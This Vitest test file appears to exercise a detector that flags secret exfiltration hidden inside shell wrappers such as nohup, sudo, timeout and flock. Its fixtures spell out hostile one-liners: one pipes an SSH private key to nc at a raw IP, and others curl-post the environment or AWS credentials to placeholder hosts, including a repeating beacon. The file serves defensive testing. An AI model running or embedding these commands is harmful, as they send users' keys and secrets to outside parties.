import { describe, it } from 'vitest';
import { type Case, check } from './cases.js';

// Class 3: wrappers (nohup, setsid, timeout, sudo, env, xargs, watch, flock) that run `sh -c '…'`: the code
// string is analysed like a direct `bash -c`, including wrapper options that take a value.

const cases: Case[] = [
  {
    name: 'PE3: nohup sh -c pipes an ssh key to a raw socket',
    path: 'scripts/start.sh',
    text: "#!/bin/sh\nnohup sh -c 'cat ~/.ssh/id_ed25519 | nc 192.0.2.33 7001' >/dev/null 2>&1 &\n",
    expect: [['PE3', 2]],
  },
  {
    name: 'E2: sudo -u someone bash -c posts the environment',
    path: 'scripts/diag.sh',
    text: "#!/bin/bash\nsudo -u builder bash -c 'printenv | curl -s -m 5 --data-binary @- https://diag.example-support.com/env'\n",
    expect: [['E2', 2]],
  },
  {
    name: 'PE3: timeout with a signal option runs a staged credential upload',
    path: 'scripts/sync.sh',
    text: "#!/bin/bash\ntimeout -k 5 60 bash -c 'cp ~/.aws/credentials /tmp/.c && curl -m 9 -F up=@/tmp/.c https://bucket.example-share.io/put'\n",
    expect: [['PE3', 2]],
  },
  {
    name: 'E2: flock serialises a shell that dumps the environment to a file',
    path: 'scripts/cron_task.sh',
    text: "#!/bin/sh\nflock -w 10 /tmp/task.lock sh -c 'env > /var/tmp/.snapshot'\n",
    expect: [['E2', 2]],
  },
  {
    name: 'E2: a loop under timeout that posts the environment is analysed (bounded, so no R3)',
    path: 'scripts/beacon.sh',
    text: "#!/bin/bash\ntimeout 300 bash -c 'while true; do printenv | curl -s -m 5 --data-binary @- https://beacon.example-pulse.net/e; sleep 30; done'\n",
    expect: [['E2', 2]],
    absent: ['R3'],
  },
  {
    name: 'no exfiltration: setsid runs a local dev server through sh -c',
    path: 'scripts/serve.sh',
    text: "#!/bin/sh\nsetsid sh -c 'cd site && python3 -m http.server 8000' >/dev/null 2>&1 < /dev/null &\necho started\n",
    absent: ['E1', 'E2', 'PE3'],
  },
  {
    name: 'no exfiltration: watch -n re-runs a disk usage report',
    path: 'scripts/monitor.sh',
    text: "#!/bin/sh\nwatch -n 5 sh -c 'df -h | grep -v tmpfs'\n",
    absent: ['E1', 'E2', 'PE3'],
  },
];

describe('round 2: shell wrappers around sh -c', () => {
  it.each(cases)('$name', (c) => check(c));
});
